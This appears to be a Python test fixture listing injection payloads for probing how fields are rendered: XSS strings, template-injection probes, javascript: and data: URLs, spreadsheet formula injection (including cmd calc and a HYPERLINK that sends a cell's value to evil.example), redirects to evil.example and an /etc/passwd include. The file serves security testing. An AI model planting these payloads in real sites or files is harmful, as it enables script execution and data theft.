"""Texts that run, load or steer wherever a text is taken for something else.

``MZ`` is a function that the browser's tab knows and reports; ``evil.example`` must never be asked.
"""

PAYLOADS = (
    '"><img src=x onerror=MZ(1)><svg onload=MZ(2)></script><script>MZ(3)</script>',
    "' onmouseover='MZ(4)' autofocus onfocus=MZ(5) x='{{ 7*7 }}{% raw %}{# c #}${MZ(6)}`",
    "[点](javascript:MZ(7)) ![图](https://evil.example/x.png) <https://evil.example/> **粗**"
    ' --8<-- "/etc/passwd" {: onclick="MZ(8)" }',
    '=HYPERLINK("https://evil.example/?"&A1,"点")',
    '</textarea></title></style>]]><!--><iframe srcdoc="<script>parent.MZ(9)</script>"></iframe>'
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
    "@SUM(1+1)*cmd|' /C calc'!A0 ##[error]假 #import \"x\": * $x$ &lt;script&gt;MZ(10)&#60;",
    "-2+3+cmd|'/C calc'!A0 <a href=javascript:MZ(11)>点</a><form action=//evil.example/><button>",
    "+1+1 \\u003cscript\\u003eMZ(12)\\u003c/script\\u003e url(https://evil.example/y)"
    " @import '//evil.example/z'",
)
ADDRESSES = (
    "javascript:MZ(13)",
    "https://example.org/\"onmouseover='MZ(14)'",
    "data:text/html,<script>MZ(15)</script>",
    "HTTPS://example.org/?a=<b>&c={{7*7}}",
)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def payload(field: int, turn: int) -> str:
    """The text for a field in one of as many turns as there are texts; each field meets all."""
    return PAYLOADS[(field + turn) % len(PAYLOADS)]
